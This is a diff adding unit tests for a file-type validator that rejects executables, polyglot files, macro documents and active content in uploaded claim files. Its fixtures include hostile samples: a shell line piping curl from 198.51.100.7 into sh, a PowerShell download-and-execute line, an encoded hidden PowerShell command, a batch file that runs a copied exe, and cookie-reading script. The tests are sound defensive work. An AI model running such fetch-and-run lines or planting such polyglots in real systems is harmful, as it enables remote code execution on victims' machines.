@@ -8,11 +8,14 @@ import struct
 import zipfile
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from kafkapipe.config import DEFAULT_FILE_TYPES
 from kafkapipe.errors import ValidationError
 from kafkapipe.security.filetypes import (
     SNIFF_BYTES,
+    canonical_extension,
     check_type,
     detect_type,
     type_from_content_type,
@@ -257,3 +260,243 @@ def test_type_from_path(path: str, expected: str | None) -> None:
 )
 def test_type_from_content_type(value: str | None, expected: str | None) -> None:
     assert type_from_content_type(value) == expected
+
+
+# --- polyglots and active content: the leading bytes decide, and nothing runnable is accepted ---
+
+
+def _pe_with_pdf_at_64() -> bytes:
+    stub = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48))
+    stub[60:64] = struct.pack("<I", 128)  # e_lfanew
+    return bytes(stub) + b"%PDF-1.7\n1 0 obj<<>>endobj\n" + bytes(40) + b"PE\x00\x00" + bytes(200)
+
+
+def _zip_with(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+MACRO_CONTENT_TYPES = (
+    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
+    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+)
+PE_PDF = _pe_with_pdf_at_64()
+ELF_PDF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"%PDF-1.4\n" + bytes(200)
+MACHO_64 = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"%PDF-1.4" + bytes(200)
+MACHO_FAT = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(200)
+MACHO_32_BE = b"\xfe\xed\xfa\xce" + bytes(200)
+LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(200)
+SHELL_PDF = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\nexit 0\n%PDF-1.4\n" + bytes(100)
+HTA = (
+    b'<HTML><HEAD><HTA:APPLICATION ID="claim" WINDOWSTATE="minimize"/>'
+    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></HEAD></HTML>'
+)
+HTA_AFTER_TEXT = b"Claim notes for adjuster\r\n<hta:application id=x>\r\n<script>close()</script>\r\n"
+SCRIPT_BANNER_PDF = b"<script>alert(document.cookie)</script>\n%PDF-1.4\n" + bytes(100)
+POWERSHELL = b"param($u)\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n"
+POWERSHELL_ENCODED = b"powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n"
+POWERSHELL_PLAIN = b"$u = $env:TEMP + '\\\\x.exe'\nStart-Process $u\n"
+BATCH = b"@echo off\r\ncopy \\\\server\\share\\x.exe %TEMP%\r\n%TEMP%\\x.exe\r\n"
+VBS = b'Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "cmd /c calc"\r\n'
+JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n'
+NODE = b"const cp = require('child_process');\ncp.exec('id');\n"
+HTML_LATE = b"Dear adjuster,\nplease see below.\n\n<iframe src=http://198.51.100.7/></iframe>\n"
+SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'
+SVG_FOREIGN = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><foreignObject>'
+    b'<body xmlns="http://www.w3.org/1999/xhtml"><p>x</p></body></foreignObject></svg>'
+)
+SVG_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10" fill="red"/></svg>'
+DOCM = _zip_with(
+    {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/vbaProject.bin": b"\xd0\xcf" * 50}
+)
+DOCM_BY_CONTENT_TYPES = _zip_with({"[Content_Types].xml": MACRO_CONTENT_TYPES, "word/document.xml": b"<w/>"})
+XLSM = _zip_with({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": b"x" * 99})
+DOC_MACRO = ole2_bytes(["WordDocument", "Macros", "_VBA_PROJECT_CUR"])
+XLS_MACRO = ole2_bytes(["Workbook", "_VBA_PROJECT_CUR", "VBA"])
+PDF_ZIP = PDF + ZIP  # a PDF with a ZIP appended: readers see a PDF, unzip sees an archive
+ZIP_PDF = ZIP + PDF
+PNG_PDF = PNG[:40] + b"%PDF-1.4\n" + bytes(100)
+JPG_SCRIPT = JPG + b"<script>alert(1)</script>"
+
+POLYGLOTS_REFUSED = [
+    (PE_PDF, "/claims/invoice.pdf", "application/pdf", "exe"),
+    (PE_PDF, "/claims/invoice.scr", None, "exe"),
+    (EXE, "/setup", "application/octet-stream", "exe"),
+    (ELF_PDF, "/a.pdf", "application/pdf", "elf"),
+    (MACHO_64, "/a.pdf", None, "macho"),
+    (MACHO_FAT, "/a.zip", None, "macho"),
+    (MACHO_32_BE, "/a", None, "macho"),
+    (LNK, "/claim.pdf.lnk", None, "lnk"),
+    (SHELL_PDF, "/a.pdf", "application/pdf", "script"),
+    (HTA, "/claim.hta", "application/hta", "html"),
+    (HTA_AFTER_TEXT, "/notes.txt", "text/plain", "html"),
+    (SCRIPT_BANNER_PDF, "/a.pdf", "application/pdf", "html"),
+    (POWERSHELL, "/run.ps1", None, "script"),
+    (POWERSHELL_ENCODED, "/notes.txt", "text/plain", "script"),
+    (POWERSHELL_PLAIN, "/x", None, "script"),
+    (BATCH, "/a.bat", None, "script"),
+    (VBS, "/a.vbs", None, "script"),
+    (JSCRIPT, "/a.txt", "text/plain", "script"),
+    (NODE, "/a.js", "application/javascript", "script"),
+    (HTML, "/page", "text/html", "html"),
+    (HTML_LATE, "/letter.txt", "text/plain", "html"),
+    (SVG, "/a.svg", "image/svg+xml", "svg"),
+    (SVG_ONLOAD, "/a.svg", None, "svg"),
+    (SVG_FOREIGN, "/a.svg", None, "svg"),
+]
+
+
+@pytest.mark.parametrize(("data", "path", "content_type", "detected"), POLYGLOTS_REFUSED)
+def test_executables_and_active_content_are_refused_even_when_allowed(
+    data: bytes, path: str, content_type: str | None, detected: str
+) -> None:
+    allowed = [*ALLOWED, "exe", "elf", "macho", "lnk", "script", "html", "svg"]
+    with pytest.raises(ValidationError) as caught:
+        check_type(data, path, content_type, allowed)
+    message = caught.value.message
+    assert f"content is {detected}" in message
+    assert "executable or active content" in message
+    ext = path.rsplit("/", 1)[-1].rpartition(".")[2] if "." in path.rsplit("/", 1)[-1] else None
+    if ext:
+        assert f"extension says {ext}" in message
+    if content_type:
+        assert f"Content-Type says {content_type}" in message
+    assert caught.value.category == "validation"
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (PE_PDF, "exe"),
+        (ELF_PDF, "elf"),
+        (MACHO_64, "macho"),
+        (LNK, "lnk"),
+        (SHELL_PDF, "script"),
+        (SCRIPT_BANNER_PDF, "html"),
+        (PDF_ZIP, "pdf"),
+        (ZIP_PDF, "zip"),
+        (PNG_PDF, "png"),
+        (JPG_SCRIPT, "jpg"),
+        (DOCM, "docm"),
+        (DOCM_BY_CONTENT_TYPES, "docm"),
+        (XLSM, "xlsm"),
+        (DOC_MACRO, "doc-macro"),
+        (XLS_MACRO, "xls-macro"),
+        (SVG_PLAIN, "svg"),
+    ],
+)
+def test_the_leading_magic_decides_a_polyglot(data: bytes, expected: str) -> None:
+    assert detect_type(data) == expected
+
+
+@pytest.mark.parametrize(
+    ("data", "path", "content_type", "detected"),
+    [
+        (DOCM, "/report.docx", None, "docm"),
+        (DOCM, "/report.docm", None, "docm"),
+        (DOCM_BY_CONTENT_TYPES, "/r", "application/zip", "docm"),
+        (XLSM, "/sheet.xlsm", None, "xlsm"),
+        (DOC_MACRO, "/letter.doc", "application/msword", "doc-macro"),
+        (XLS_MACRO, "/book", None, "xls-macro"),
+        (ZIP_PDF, "/a.pdf", "application/pdf", "zip"),
+        (PDF, "/invoice.scr", None, "pdf"),  # a name claiming an executable contradicts the bytes
+        (TXT, "/run.ps1", "text/plain", "txt"),
+    ],
+)
+def test_macro_containers_and_disguised_archives_are_refused_by_default(
+    data: bytes, path: str, content_type: str | None, detected: str
+) -> None:
+    with pytest.raises(ValidationError) as caught:
+        check_type(data, path, content_type, ALLOWED)
+    assert f"content is {detected}" in caught.value.message
+
+
+def test_macro_containers_pass_only_when_allowed_and_keep_a_truthful_extension() -> None:
+    assert check_type(DOCM, "/report.docm", None, [*ALLOWED, "docm"]) == "docm"
+    assert check_type(DOC_MACRO, "/letter.doc", None, [*ALLOWED, "doc-macro"]) == "doc-macro"
+    assert canonical_extension("docm") == "docm"
+    assert canonical_extension("doc-macro") == "doc"
+
+
+def test_a_plain_svg_passes_only_when_allowed() -> None:
+    assert check_type(SVG_PLAIN, "/a.svg", "image/svg+xml", [*ALLOWED, "svg"]) == "svg"
+    with pytest.raises(ValidationError, match="file type svg not allowed"):
+        check_type(SVG_PLAIN, "/a.svg", None, ALLOWED)
+
+
+def test_a_pdf_with_a_zip_appended_is_a_pdf() -> None:
+    assert check_type(PDF_ZIP, "/claims/a.pdf", "application/pdf", ALLOWED) == "pdf"
+
+
+def test_a_binary_prefix_never_becomes_a_pdf() -> None:
+    junk = random.Random(3).randbytes(300).replace(b"%PDF-", b"xxxxx")
+    assert detect_type(junk + b"%PDF-1.4\n" + bytes(100)) != "pdf"
+
+
+LEGITIMATE = {
+    "pdf": (PDF, "/claims/estimate.pdf", "application/pdf"),
+    "jpg": (JPG, "/p/IMG_0001.JPG", "image/jpeg"),
+    "png": (PNG, "/p/roof.png", "image/png"),
+    "gif": (GIF, "/p/a.gif", "image/gif"),
+    "tiff": (TIFF_LE, "/scan.tif", "image/tiff"),
+    "heic": (HEIC, "/IMG_2.HEIC", "image/heic"),
+    "docx": (DOCX, "/letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+    "xlsx": (XLSX, "/sheet.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+    "doc": (DOC, "/letter.doc", "application/msword"),
+    "xls": (XLS, "/book.xls", "application/vnd.ms-excel"),
+    "txt": (TXT, "/notes.txt", "text/plain; charset=utf-8"),
+    "zip": (ZIP, "/photos.zip", "application/zip"),
+    "esx": (ESX, "/estimate.esx", "application/octet-stream"),
+}
+
+
+def test_the_corpus_covers_every_default_type() -> None:
+    assert set(LEGITIMATE) == set(DEFAULT_FILE_TYPES)
+
+
+@pytest.mark.parametrize("kind", sorted(LEGITIMATE))
+def test_legitimate_files_of_every_allowed_type_are_accepted(kind: str) -> None:
+    data, path, content_type = LEGITIMATE[kind]
+    assert check_type(data, path, content_type, ALLOWED) == kind
+    assert check_type(data, "/download", None, ALLOWED) == kind
+    assert canonical_extension(kind) == {"tiff": "tiff"}.get(kind, kind)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        TXT,
+        CSV,
+        LATIN,
+        b"Insured says the set of windows broke; echo from the neighbour's dog.\n",
+        b"Claim 12: water damage. Evaluation pending; call adjuster (ext. 4711).\n",
+        b"name,amount\nRoof,1200\nEval fee,80\n",
+    ],
+)
+def test_ordinary_claim_text_is_not_mistaken_for_a_script(text: bytes) -> None:
+    assert check_type(text, "/notes.txt", "text/plain", ALLOWED) == "txt"
+
+
+@pytest.mark.parametrize("kind", ["exe", "elf", "macho", "script", "html", "lnk", "ps1", "bat", "hta", "js", "../x"])
+def test_no_runnable_extension_is_ever_produced(kind: str) -> None:
+    with pytest.raises(ValidationError):
+        canonical_extension(kind)
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    magic=st.sampled_from([b"MZ", b"\x7fELF", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"#!"]),
+    tail=st.binary(max_size=2048),
+    path=st.sampled_from(["/a.pdf", "/a.jpg", "/a.docx", "/a.txt", "/a", "/a.zip"]),
+    content_type=st.sampled_from([None, "application/pdf", "image/jpeg", "text/plain", "application/zip"]),
+)
+def test_anything_that_starts_like_an_executable_is_refused(
+    magic: bytes, tail: bytes, path: str, content_type: str | None
+) -> None:
+    body = magic + PDF + tail  # whatever signature follows
+    with pytest.raises(ValidationError, match="executable or active content"):
+        check_type(body, path, content_type, [*ALLOWED, "exe", "elf", "macho", "script"])
